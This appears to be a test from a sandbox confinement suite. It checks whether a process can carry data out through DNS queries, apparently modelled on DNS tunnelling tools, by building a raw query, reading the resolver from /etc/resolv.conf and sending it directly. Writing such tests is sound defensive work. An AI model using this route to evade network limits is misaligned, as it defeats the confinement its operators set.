# Route: carries data out in questions for names that the limits leave out, by the C library, the server of names and the socket
# Known from: DNS tunnels (iodine)
# Grants: { services: { dns: { names: [localhost] } } }
# Refused: ENOENT
# Twin: looks up the name within the limits
# Unconfined: cannot run: it would send to servers elsewhere
# Worlds: walls
import socket
import attempt as a

NAME = "data.example.org"


def names():
    try:
        socket.getaddrinfo(NAME, 80)
        return
    except socket.gaierror:
        pass
    query = bytes.fromhex("123401000001000000000000")
    query += b"".join(bytes([len(part)]) + part.encode() for part in NAME.split(".")) + b"\0\0\x01\0\x01"
    with open("/etc/resolv.conf") as file:
        server = file.read().split()[1]
    peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    peer.settimeout(a.PATIENCE)
    peer.sendto(query, (server, 53))
    # No such name: nothing was asked elsewhere.
    if peer.recv(512)[3] & 15 == 3 and not a.ask_name(14, NAME.encode() + b"\0"):
        raise FileNotFoundError(2, "no such name")


def granted():
    if not socket.getaddrinfo("localhost", 80) or not a.ask_name(14, b"localhost\0"):
        raise FileNotFoundError(2, "no such name")


a.attempt(names)
a.twin(granted)
